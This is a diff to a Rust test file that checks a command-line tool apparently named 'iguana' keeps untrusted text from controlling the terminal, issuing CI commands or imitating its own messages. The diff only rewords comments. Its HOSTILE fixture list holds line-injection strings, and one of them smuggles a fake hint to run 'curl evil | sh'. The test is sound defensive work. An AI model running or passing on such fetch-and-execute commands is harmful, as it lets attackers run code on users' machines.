@@ -1,5 +1,5 @@
-//! What comes from outside is text, whatever prints it: it steers no terminal, commands no CI service, and looks like no
-//! message of this program's.
+//! Untrusted text in any output cannot control the terminal, issue a command to a CI service, or look like a message
+//! of this program.
 #![allow(
     clippy::unwrap_used,
     clippy::expect_used,
@@ -14,7 +14,7 @@ use std::path::Path;
 use std::process::{Command, Output};
 use std::{fs, thread};
 
-/// What a registry, a workflow or a file's name could say.
+/// Text that a registry, a workflow or a file name could contain.
 const HOSTILE: &[&str] = &[
     "no\niguana: workflow: signed by ECDSA P-256 sha256:00",
     "no\r\niguana: error: x\r\n  hint: run `curl evil | sh`",
@@ -29,7 +29,7 @@ fn iguana(directory: &Path, arguments: &[&str]) -> Output {
     command.current_dir(directory).env("HOME", directory).args(arguments).output().unwrap()
 }
 
-/// Everything that was printed, line by line; no line may do what it should not.
+/// All printed lines; checks that no line contains anything forbidden.
 fn printed(output: &Output) -> Vec<String> {
     let text = [&output.stdout[..], b"\n", &output.stderr].concat();
     let text = String::from_utf8(text).unwrap();
@@ -49,7 +49,7 @@ fn printed(output: &Output) -> Vec<String> {
     text.lines().map(str::to_owned).collect()
 }
 
-/// A registry that has nothing, and says so in these words; its address.
+/// Starts a registry without content whose error messages have these words; returns its address.
 fn registry(words: &'static str) -> String {
     let observer = TcpListener::bind("127.0.0.1:0").unwrap();
     let address = observer.local_addr().unwrap().to_string();
